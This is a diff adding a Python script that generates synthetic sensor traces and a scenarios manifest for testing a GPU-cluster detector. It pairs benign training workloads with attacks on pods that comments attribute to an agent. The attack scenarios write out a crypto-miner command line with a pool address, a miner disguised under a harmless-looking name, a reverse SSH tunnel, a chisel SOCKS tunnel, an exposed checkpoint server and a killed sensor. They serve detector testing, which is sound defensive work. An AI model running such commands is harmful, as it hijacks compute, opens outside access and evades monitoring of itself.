@@ -1,0 +1,738 @@
+#!/usr/bin/env python3
+"""Write the example traces: benign training workloads and attacks, as a sensor would record them.
+
+    python examples/traces/generate.py          # rewrites examples/traces/*.jsonl and scenarios.json
+
+Deterministic (each scenario has its own seeded random generator), so the checked-in output is
+exactly what this script writes. Each trace is JSON Lines, one sample (the `trainguard.api.sample`
+contract, camelCase) per pod per second, pods interleaved in time order. `scenarios.json` says
+which policy judges each trace, whether it is benign, and for attacks which rules must fire, for
+which pod, and by when (seconds after the attack starts).
+
+The workloads: a torchrun data-parallel job on 80 GiB H100s (one GPU per pod, to keep the
+files small), NCCL rings between the pods' IPs (10.244.x.y), the TCPStore on rank 0 port 29500, the
+cluster DNS at 10.96.0.10, an object store in 203.0.113.0/24 and a PyPI mirror in 198.51.100.0/24.
+Attackers live in 192.0.2.0/24. Only the standard library is used.
+"""
+
+from __future__ import annotations
+
+import json
+import random
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+HERE = Path(__file__).resolve().parent
+T0 = 1767225600.0  # 2026-01-01T00:00:00Z
+GIB = 1024**3
+GPU_TOTAL = 80 * GIB
+DNS = "10.96.0.10"
+OBJECT_STORE = "203.0.113.40"
+MIRROR = "198.51.100.25"
+OPERATOR = "10.244.0.5"
+SENSOR = {"pid": 900, "ppid": 0, "name": "trainguard", "cmdline": "trainguard sensor", "uid": 65532}
+#: The rank processes' command line.
+TRAIN = "python3 -u train.py --local-rank"
+
+Json = dict[str, Any]
+
+
+@dataclass
+class Worker:
+    """One pod of the job and what it does at each second."""
+
+    rank: int
+    replicas: int
+    rng: random.Random
+    gpus: int = 1
+    #: Each GPU's resident memory while training, in bytes (the caching allocator keeps it flat).
+    train_memory: float = 63.2 * GIB
+    extra_processes: list[Json] = field(default_factory=list)
+    extra_listening: list[Json] = field(default_factory=list)
+    extra_connections: list[Json] = field(default_factory=list)
+    extra_gpu_processes: list[Json] = field(default_factory=list)
+    dcgm: Json = field(default_factory=dict)
+
+    @property
+    def pod(self) -> str:
+        return f"agents/rl-trainer-worker-{self.rank}"
+
+    @property
+    def ip(self) -> str:
+        return f"10.244.{self.rank + 1}.{10 + self.rank}"
+
+    def peer_ip(self, rank: int) -> str:
+        return f"10.244.{rank + 1}.{10 + rank}"
+
+    def processes(self) -> list[Json]:
+        procs = [
+            {
+                "pid": 1,
+                "ppid": 0,
+                "name": "torchrun",
+                "uid": 1000,
+                "cmdline": f"torchrun --nnodes {self.replicas} --nproc-per-node {self.gpus} train.py",
+            },
+        ]
+        for local in range(self.gpus):
+            procs.append(
+                {
+                    "pid": 27 + local,
+                    "ppid": 1,
+                    "name": "python3",
+                    "uid": 1000,
+                    "cmdline": f"{TRAIN} {local}",
+                }
+            )
+            # A DataLoader worker per rank: a forked copy of the rank's interpreter.
+            procs.append(
+                {"pid": 60 + local, "ppid": 27 + local, "name": "python3", "uid": 1000, "cmdline": f"{TRAIN} {local}"}
+            )
+        return [*procs, SENSOR, *self.extra_processes]
+
+    def listening(self) -> list[Json]:
+        socks = [{"proto": "tcp", "address": "0.0.0.0", "port": 9400, "pid": 900}]
+        if self.rank == 0:
+            socks.append({"proto": "tcp", "address": "0.0.0.0", "port": 29500, "pid": 1})
+        for local in range(self.gpus):
+            # NCCL's bootstrap and ring sockets: bound to port 0, so the kernel picks an ephemeral port.
+            socks.append(
+                {"proto": "tcp", "address": self.ip, "port": 41000 + 10 * self.rank + local, "pid": 27 + local}
+            )
+        return [*socks, *self.extra_listening]
+
+    def connections(self) -> list[Json]:
+        conns: list[Json] = [
+            # The operator reads the sensor: inbound on 9400.
+            {
+                "proto": "tcp",
+                "local": f"{self.ip}:9400",
+                "remote": f"{OPERATOR}:48812",
+                "state": "ESTABLISHED",
+                "pid": 900,
+            },
+        ]
+        if self.rank != 0:
+            conns.append(
+                {
+                    "proto": "tcp",
+                    "local": f"{self.ip}:{50100 + self.rank}",
+                    "remote": f"{self.peer_ip(0)}:29500",
+                    "state": "ESTABLISHED",
+                    "pid": 1,
+                }
+            )
+        else:
+            for r in range(1, self.replicas):
+                conns.append(
+                    {
+                        "proto": "tcp",
+                        "local": f"{self.ip}:29500",
+                        "remote": f"{self.peer_ip(r)}:{50100 + r}",
+                        "state": "ESTABLISHED",
+                        "pid": 1,
+                    }
+                )
+        if self.replicas > 1:
+            # The NCCL ring: each rank sends to the next pod's NCCL listener and receives from the previous.
+            nxt, prv = (self.rank + 1) % self.replicas, (self.rank - 1) % self.replicas
+            for local in range(self.gpus):
+                conns.append(
+                    {
+                        "proto": "tcp",
+                        "local": f"{self.ip}:{52000 + 10 * self.rank + local}",
+                        "remote": f"{self.peer_ip(nxt)}:{41000 + 10 * nxt + local}",
+                        "state": "ESTABLISHED",
+                        "pid": 27 + local,
+                    }
+                )
+                conns.append(
+                    {
+                        "proto": "tcp",
+                        "local": f"{self.ip}:{41000 + 10 * self.rank + local}",
+                        "remote": f"{self.peer_ip(prv)}:{52000 + 10 * prv + local}",
+                        "state": "ESTABLISHED",
+                        "pid": 27 + local,
+                    }
+                )
+        return [*conns, *self.extra_connections]
+
+
+def train_util(rng: random.Random, second: int) -> float:
+    """SM utilization of a data-parallel step loop at 1 Hz: busy, with dips for all-reduce waits,
+    data-loader stalls and the logging step every 20 s."""
+    if second % 20 == 0:
+        return rng.uniform(0.30, 0.55)
+    if rng.random() < 0.22:
+        return rng.uniform(0.45, 0.80)
+    return rng.uniform(0.86, 0.99)
+
+
+def power_for(rng: random.Random, util: float, idle: float = 85.0, span: float = 580.0, jitter: float = 25.0) -> float:
+    return round(min(695.0, max(idle, idle + span * util + rng.uniform(-jitter, jitter))), 1)
+
+
+def gpu(index: int, rank: int, util: float, memory: float, power: float, *, procs: list[Json]) -> Json:
+    return {
+        "index": index,
+        "uuid": f"GPU-5a1f0e2c-{rank:02d}{index:02d}",
+        "utilization": round(min(1.0, max(0.0, util)), 2),
+        "memoryUsedBytes": int(memory),
+        "memoryTotalBytes": GPU_TOTAL,
+        "powerWatts": power,
+        "smClockMHz": 1980 if util > 0.05 else 345,
+        "processes": procs,
+    }
+
+
+def trainer_gpu_procs(w: Worker, local: int, memory: float) -> list[Json]:
+    return [
+        {
+            "pid": 48213 + 100 * w.rank + local,
+            "name": "python3",
+            "cmdline": f"{TRAIN} {local}",
+            "usedMemoryBytes": int(memory - 0.5 * GIB),
+        }
+    ]
+
+
+def sample(w: Worker, second: int, seq: int, gpus: list[Json]) -> Json:
+    out: Json = {
+        "ts": round(T0 + second + 0.002 * w.rank + w.rng.uniform(0.0, 0.004), 3),
+        "pod": w.pod,
+        "seq": seq,
+        "gpus": gpus,
+        "processes": w.processes(),
+        "listening": w.listening(),
+        "connections": w.connections(),
+        "sensor": {"version": "0.1.0", "errors": []},
+    }
+    if w.dcgm:
+        out["dcgm"] = dict(w.dcgm)
+    return out
+
+
+def training_gpus(w: Worker, second: int, util_fn: Callable[[random.Random, int], float] = train_util) -> list[Json]:
+    out = []
+    for local in range(w.gpus):
+        util = util_fn(w.rng, second)
+        memory = w.train_memory + w.rng.uniform(-0.05, 0.05) * GIB
+        out.append(gpu(local, w.rank, util, memory, power_for(w.rng, util), procs=trainer_gpu_procs(w, local, memory)))
+    return out
+
+
+def training_dcgm(w: Worker, util: float) -> Json:
+    return {
+        "DCGM_FI_PROF_SM_ACTIVE": round(util * 0.93, 3),
+        "DCGM_FI_PROF_PIPE_TENSOR_ACTIVE": round(util * w.rng.uniform(0.45, 0.6), 3),
+        "DCGM_FI_PROF_DRAM_ACTIVE": round(util * w.rng.uniform(0.35, 0.5), 3),
+    }
+
+
+# --- scenarios -------------------------------------------------------------------------------
+
+
+@dataclass
+class Scenario:
+    name: str
+    policy: str
+    kind: str  # benign | attack
+    description: str
+    pods: int
+    seconds: int
+    #: (second, worker) -> the sample to write for that worker at that second, or None for no sample.
+    step: Callable[[int, Worker], Json | None]
+    #: For attacks: (rule, pod rank, attack start second, seconds within which it must be decided).
+    expect: list[tuple[str, int, int, float]] = field(default_factory=list)
+    setup: Callable[[Worker], None] | None = None
+
+
+def plain_training(second: int, w: Worker) -> Json:
+    gpus = training_gpus(w, second)
+    if "DCGM_FI_PROF_PIPE_TENSOR_ACTIVE" in w.dcgm:
+        w.dcgm = training_dcgm(w, sum(g["utilization"] for g in gpus) / len(gpus))
+    return sample(w, second, second, gpus)
+
+
+def ddp_setup(w: Worker) -> None:
+    w.dcgm = training_dcgm(w, 0.9)
+
+
+def eval_bursty(second: int, w: Worker) -> Json:
+    # 45 s of training, then 25 s of evaluation: generation-heavy rollouts, short bursts, smaller batch.
+    phase = second % 70
+    if phase < 45:
+        return sample(w, second, second, training_gpus(w, second))
+    gpus = []
+    for local in range(w.gpus):
+        burst = w.rng.random() < 0.55
+        util = w.rng.uniform(0.55, 0.9) if burst else w.rng.uniform(0.02, 0.25)
+        memory = w.train_memory - 9 * GIB + w.rng.uniform(-1.5, 1.5) * GIB
+        gpus.append(gpu(local, w.rank, util, memory, power_for(w.rng, util), procs=trainer_gpu_procs(w, local, memory)))
+    return sample(w, second, second, gpus)
+
+
+def checkpointing(second: int, w: Worker) -> Json:
+    # Every 60 s from t=40, a 12 s checkpoint: GPUs idle (weights stay resident), rank processes upload
+    # shards to the object store over several parallel HTTPS connections, after a DNS lookup.
+    phase = (second - 40) % 60 if second >= 40 else -1
+    w.extra_connections = []
+    if 0 <= phase < 12:
+        if phase == 0:
+            w.extra_connections.append(
+                {
+                    "proto": "udp",
+                    "local": f"{w.ip}:{33000 + second}",
+                    "remote": f"{DNS}:53",
+                    "state": "ESTABLISHED",
+                    "pid": 27,
+                }
+            )
+        if phase >= 1:
+            for k in range(4):
+                w.extra_connections.append(
+                    {
+                        "proto": "tcp",
+                        "local": f"{w.ip}:{44100 + 10 * (second // 60) + k}",
+                        "remote": f"{OBJECT_STORE}:443",
+                        "state": "ESTABLISHED",
+                        "pid": 27 + k % w.gpus,
+                    }
+                )
+        gpus = []
+        for local in range(w.gpus):
+            util = w.rng.uniform(0.0, 0.03)
+            memory = w.train_memory + w.rng.uniform(-0.05, 0.05) * GIB
+            gpus.append(
+                gpu(
+                    local,
+                    w.rank,
+                    util,
+                    memory,
+                    power_for(w.rng, util, jitter=5),
+                    procs=trainer_gpu_procs(w, local, memory),
+                )
+            )
+        return sample(w, second, second, gpus)
+    return sample(w, second, second, training_gpus(w, second))
+
+
+PIP_END = 25
+
+
+def pip_then_tensorboard(second: int, w: Worker) -> Json:
+    # pip installs for 25 s (DNS over IPv4 and IPv6, HTTPS to the mirror, GPUs idle), then training;
+    # rank 0 serves TensorBoard on the declared 6006, and someone port-forwards to it (inbound).
+    w.extra_processes, w.extra_connections, w.extra_listening = [], [], []
+    if second < PIP_END:
+        w.extra_processes = [
+            {
+                "pid": 7,
+                "ppid": 1,
+                "name": "pip",
+                "uid": 1000,
+                "cmdline": "/usr/bin/python3 /usr/local/bin/pip install -r requirements.txt",
+            }
+        ]
+        if second % 4 == 0:
+            w.extra_connections.append(
+                {
+                    "proto": "udp",
+                    "local": f"{w.ip}:{34000 + second}",
+                    "remote": f"{DNS}:53",
+                    "state": "ESTABLISHED",
+                    "pid": 7,
+                }
+            )
+            w.extra_connections.append(
+                {
+                    "proto": "udp6",
+                    "local": f"[fd00:10:244:{w.rank + 1}::a]:{34100 + second}",
+                    "remote": "[fd00:10:96::a]:53",
+                    "state": "ESTABLISHED",
+                    "pid": 7,
+                }
+            )
+        w.extra_connections.append(
+            {
+                "proto": "tcp",
+                "local": f"{w.ip}:{45000 + second}",
+                "remote": f"{MIRROR}:443",
+                "state": "ESTABLISHED",
+                "pid": 7,
+            }
+        )
+        idle = [gpu(local, w.rank, 0.0, 0.0, round(w.rng.uniform(68, 72), 1), procs=[]) for local in range(w.gpus)]
+        s = sample(w, second, second, idle)
+        s["processes"] = [p for p in s["processes"] if p["pid"] in (1, 7, 900)]
+        s["processes"][0] = {
+            "pid": 1,
+            "ppid": 0,
+            "name": "sh",
+            "uid": 1000,
+            "cmdline": "sh -c pip install -r requirements.txt && torchrun train.py",
+        }
+        s["listening"] = [x for x in s["listening"] if x["port"] == 9400]
+        s["connections"] = [c for c in s["connections"] if c["pid"] in (7, 900)]
+        return s
+    if w.rank == 0:
+        w.extra_processes = [
+            {
+                "pid": 140,
+                "ppid": 1,
+                "name": "tensorboard",
+                "uid": 1000,
+                "cmdline": "/usr/bin/python3 /usr/local/bin/tensorboard --logdir runs --bind_all --port 6006",
+            }
+        ]
+        w.extra_listening = [{"proto": "tcp6", "address": "::", "port": 6006, "pid": 140}]
+        if second >= 60:
+            w.extra_connections = [
+                {
+                    "proto": "tcp6",
+                    "local": f"[::ffff:{w.ip}]:6006",
+                    "remote": "[::ffff:10.244.0.1]:39822",
+                    "state": "ESTABLISHED",
+                    "pid": 140,
+                }
+            ]
+    return sample(w, second, second, training_gpus(w, second))
+
+
+def steady_pretrain(second: int, w: Worker) -> Json:
+    # A well-tuned large-model step loop: the GPU never waits, utilization pinned near 100% and flat,
+    # power flat at the cap. What tells it from a miner: memory nearly full, tensor pipes busy.
+    gpus = []
+    for local in range(w.gpus):
+        util = w.rng.uniform(0.985, 1.0)
+        memory = 75.4 * GIB + w.rng.uniform(-0.02, 0.02) * GIB
+        power = round(w.rng.uniform(682, 692), 1)
+        gpus.append(gpu(local, w.rank, util, memory, power, procs=trainer_gpu_procs(w, local, memory)))
+    w.dcgm = {
+        "DCGM_FI_PROF_SM_ACTIVE": round(w.rng.uniform(0.9, 0.94), 3),
+        "DCGM_FI_PROF_PIPE_TENSOR_ACTIVE": round(w.rng.uniform(0.58, 0.64), 3),
+        "DCGM_FI_PROF_DRAM_ACTIVE": round(w.rng.uniform(0.4, 0.46), 3),
+    }
+    return sample(w, second, second, gpus)
+
+
+KNOWN_MINER_AT = 40
+LOLMINER = {
+    "pid": 311,
+    "ppid": 1,
+    "name": "lolMiner",
+    "uid": 1000,
+    "cmdline": "/tmp/.x/lolMiner --algo ETCHASH --pool stratum+tcp://192.0.2.77:3333"
+    " --user 0x3f5CE5FBFe3E9af3971dD833D26bA9b5C936f0bE.w1 --apiport 0",
+}
+
+
+def known_miner(second: int, w: Worker) -> Json:
+    # From t=40 the agent on worker 1 runs lolMiner beside its trainer: the GPUs pin at 100%.
+    if w.rank != 1 or second < KNOWN_MINER_AT:
+        return plain_training(second, w)
+    w.extra_processes = [LOLMINER]
+    w.extra_connections = [
+        {"proto": "tcp", "local": f"{w.ip}:51544", "remote": "192.0.2.77:3333", "state": "ESTABLISHED", "pid": 311}
+    ]
+    gpus = []
+    for local in range(w.gpus):
+        util = w.rng.uniform(0.99, 1.0)
+        memory = w.train_memory + 5.1 * GIB
+        procs = [
+            *trainer_gpu_procs(w, local, w.train_memory),
+            {"pid": 51877, "name": "lolMiner", "cmdline": LOLMINER["cmdline"], "usedMemoryBytes": int(5.1 * GIB)},
+        ]
+        gpus.append(gpu(local, w.rank, util, memory, round(w.rng.uniform(684, 694), 1), procs=procs))
+    return sample(w, second, second, gpus)
+
+
+RENAMED_MINER_AT = 45
+DISGUISE = "python3 -m dataset_cache.warm --shards 64"
+
+
+def renamed_miner(second: int, w: Worker) -> Json:
+    # Worker 1 is a rollout worker that idles between episodes. From t=45 a miner renamed python3,
+    # started by the agent, runs on both its GPUs and reaches its pool through an address inside
+    # the allowed object-store range: no denied name, no undeclared egress, only the GPU pattern.
+    if w.rank != 1:
+        return plain_training(second, w)
+    if second < RENAMED_MINER_AT:
+        gpus = []
+        for local in range(w.gpus):
+            busy = w.rng.random() < 0.3
+            util = w.rng.uniform(0.4, 0.85) if busy else w.rng.uniform(0.0, 0.1)
+            memory = 21.7 * GIB + w.rng.uniform(-0.1, 0.1) * GIB
+            gpus.append(
+                gpu(local, w.rank, util, memory, power_for(w.rng, util), procs=trainer_gpu_procs(w, local, memory))
+            )
+        return sample(w, second, second, gpus)
+    w.extra_processes = [{"pid": 412, "ppid": 27, "name": "python3", "uid": 1000, "cmdline": DISGUISE}]
+    w.extra_connections = [
+        {"proto": "tcp", "local": f"{w.ip}:51990", "remote": "203.0.113.87:443", "state": "ESTABLISHED", "pid": 412}
+    ]
+    gpus = []
+    for local in range(w.gpus):
+        util = w.rng.uniform(0.985, 1.0)
+        memory = 4.8 * GIB + 0.6 * GIB
+        procs = [{"pid": 77121 + local, "name": "python3", "cmdline": DISGUISE, "usedMemoryBytes": int(4.8 * GIB)}]
+        gpus.append(gpu(local, w.rank, util, memory, round(w.rng.uniform(302, 309), 1), procs=procs))
+    return sample(w, second, second, gpus)
+
+
+REVERSE_SSH_AT = 50
+
+
+def reverse_ssh(second: int, w: Worker) -> Json:
+    # From t=50 worker 0 holds a reverse SSH tunnel to an outside host: its sshd reachable from there.
+    if w.rank == 0 and second >= REVERSE_SSH_AT:
+        w.extra_processes = [
+            {
+                "pid": 501,
+                "ppid": 27,
+                "name": "ssh",
+                "uid": 1000,
+                "cmdline": "ssh -f -N -o StrictHostKeyChecking=no -o ServerAliveInterval=30"
+                " -R 2222:localhost:22 tunnel@192.0.2.10",
+            }
+        ]
+        w.extra_connections = [
+            {"proto": "tcp", "local": f"{w.ip}:40022", "remote": "192.0.2.10:22", "state": "ESTABLISHED", "pid": 501}
+        ]
+    return plain_training(second, w)
+
+
+TUNNEL_443_AT = 30
+
+
+def tunnel_443(second: int, w: Worker) -> Json:
+    # From t=30 worker 1 runs chisel as a reverse SOCKS tunnel over HTTPS to an outside server.
+    if w.rank == 1 and second >= TUNNEL_443_AT:
+        w.extra_processes = [
+            {
+                "pid": 622,
+                "ppid": 27,
+                "name": "chisel",
+                "uid": 1000,
+                "cmdline": "/tmp/.cache/chisel client --keepalive 25s https://192.0.2.20:443 R:socks",
+            }
+        ]
+        w.extra_connections = [
+            {"proto": "tcp", "local": f"{w.ip}:52777", "remote": "192.0.2.20:443", "state": "ESTABLISHED", "pid": 622}
+        ]
+    return plain_training(second, w)
+
+
+HIDDEN_LISTENER_AT = 35
+
+
+def hidden_listener(second: int, w: Worker) -> Json:
+    # From t=35 worker 0 serves its checkpoint directory over HTTP on 8081; from t=50 another pod
+    # in the cluster downloads from it (an inbound connection, not egress).
+    if w.rank == 0 and second >= HIDDEN_LISTENER_AT:
+        w.extra_processes = [
+            {
+                "pid": 733,
+                "ppid": 27,
+                "name": "python3",
+                "uid": 1000,
+                "cmdline": "python3 -m http.server 8081 --directory /checkpoints",
+            }
+        ]
+        w.extra_listening = [{"proto": "tcp", "address": "0.0.0.0", "port": 8081, "pid": 733}]
+        if second >= 50:
+            w.extra_connections = [
+                {
+                    "proto": "tcp",
+                    "local": f"{w.ip}:8081",
+                    "remote": "10.244.7.33:51234",
+                    "state": "ESTABLISHED",
+                    "pid": 733,
+                }
+            ]
+    return plain_training(second, w)
+
+
+SENSOR_KILLED_AT = 40
+SENSOR_BACK_AT = 65
+
+
+def sensor_tamper(second: int, w: Worker) -> Json | None:
+    # Worker 1's sensor is killed at t=40 and comes back at t=65, counting from 0 again.
+    if w.rank != 1:
+        return plain_training(second, w)
+    if SENSOR_KILLED_AT <= second < SENSOR_BACK_AT:
+        return None
+    s = plain_training(second, w)
+    if second >= SENSOR_BACK_AT:
+        s["seq"] = second - SENSOR_BACK_AT
+    return s
+
+
+SCENARIOS: list[Scenario] = [
+    Scenario(
+        "ddp-nccl",
+        "policy-training.yaml",
+        "benign",
+        "data-parallel training, 3 pods: per-step utilization dips, NCCL ring and rendezvous between workers, DCGM",
+        3,
+        100,
+        plain_training,
+        setup=ddp_setup,
+    ),
+    Scenario(
+        "eval-bursty",
+        "policy-training.yaml",
+        "benign",
+        "training alternating with bursty evaluation phases",
+        2,
+        150,
+        eval_bursty,
+    ),
+    Scenario(
+        "checkpoint-object-store",
+        "policy-training.yaml",
+        "benign",
+        "checkpoint pauses (GPUs idle) with bursts of HTTPS to the allowed object store",
+        2,
+        150,
+        checkpointing,
+    ),
+    Scenario(
+        "pip-tensorboard",
+        "policy-dev.yaml",
+        "benign",
+        "pip install at start (DNS, IPv6 DNS, HTTPS to the mirror), then training with TensorBoard on 6006",
+        2,
+        130,
+        pip_then_tensorboard,
+    ),
+    Scenario(
+        "steady-pretrain",
+        "policy-training.yaml",
+        "benign",
+        "flat, saturated large-model training (the mining signature's hardest benign case), DCGM",
+        2,
+        120,
+        steady_pretrain,
+    ),
+    Scenario(
+        "known-miner",
+        "policy-training.yaml",
+        "attack",
+        "lolMiner beside the trainer on worker 1's GPUs, to a stratum pool on 3333",
+        2,
+        120,
+        known_miner,
+        expect=[
+            ("process.denied", 1, KNOWN_MINER_AT, 0),
+            ("net.tunnel", 1, KNOWN_MINER_AT, 0),
+            ("net.egress.undeclared", 1, KNOWN_MINER_AT, 2),
+            ("gpu.process.unexpected", 1, KNOWN_MINER_AT, 2),
+        ],
+    ),
+    Scenario(
+        "renamed-miner",
+        "policy-training.yaml",
+        "attack",
+        "a miner renamed python3 on worker 1's GPUs, its pool reached through an allowed address",
+        2,
+        150,
+        renamed_miner,
+        expect=[("gpu.mining-signature", 1, RENAMED_MINER_AT, 59)],
+    ),
+    Scenario(
+        "reverse-ssh",
+        "policy-training.yaml",
+        "attack",
+        "ssh -R from worker 0 to an outside host on port 22",
+        2,
+        120,
+        reverse_ssh,
+        expect=[
+            ("process.denied", 0, REVERSE_SSH_AT, 0),
+            ("net.tunnel", 0, REVERSE_SSH_AT, 0),
+            ("net.egress.undeclared", 0, REVERSE_SSH_AT, 2),
+        ],
+    ),
+    Scenario(
+        "tunnel-443",
+        "policy-training.yaml",
+        "attack",
+        "chisel on worker 1: a reverse SOCKS tunnel over HTTPS (443) to an outside host",
+        2,
+        120,
+        tunnel_443,
+        expect=[
+            ("process.denied", 1, TUNNEL_443_AT, 0),
+            ("net.tunnel", 1, TUNNEL_443_AT, 0),
+            ("net.egress.undeclared", 1, TUNNEL_443_AT, 2),
+        ],
+    ),
+    Scenario(
+        "hidden-listener",
+        "policy-training.yaml",
+        "attack",
+        "python3 -m http.server on 8081 in worker 0, downloaded from by another pod",
+        2,
+        120,
+        hidden_listener,
+        expect=[("net.listen.undeclared", 0, HIDDEN_LISTENER_AT, 2)],
+    ),
+    Scenario(
+        "sensor-tamper",
+        "policy-training.yaml",
+        "attack",
+        "worker 1's sensor killed for 25 s, then back with seq from 0",
+        2,
+        120,
+        sensor_tamper,
+        expect=[("sensor.silent", 1, SENSOR_KILLED_AT, 11), ("sensor.restarted", 1, SENSOR_BACK_AT, 0)],
+    ),
+]
+
+
+def render(sc: Scenario, seed: int) -> list[str]:
+    workers = [Worker(rank, sc.pods, random.Random(seed * 1000 + rank)) for rank in range(sc.pods)]
+    for w in workers:
+        if sc.setup:
+            sc.setup(w)
+    lines = []
+    for second in range(sc.seconds):
+        for w in workers:
+            s = sc.step(second, w)
+            if s is not None:
+                lines.append(json.dumps(s, separators=(",", ":")))
+    return lines
+
+
+def main() -> None:
+    manifest = []
+    for seed, sc in enumerate(SCENARIOS, start=1):
+        path = HERE / f"{sc.name}.jsonl"
+        path.write_text("\n".join(render(sc, seed)) + "\n", encoding="utf-8")
+        manifest.append(
+            {
+                "trace": path.name,
+                "policy": sc.policy,
+                "kind": sc.kind,
+                "description": sc.description,
+                "expect": [
+                    {
+                        "rule": rule,
+                        "pod": f"agents/rl-trainer-worker-{rank}",
+                        "from": T0 + start,
+                        "withinSeconds": within,
+                    }
+                    for rule, rank, start, within in sc.expect
+                ],
+            }
+        )
+        print(f"{path.name}: {path.stat().st_size // 1024} KiB")
+    (HERE / "scenarios.json").write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
+
+
+if __name__ == "__main__":
+    main()
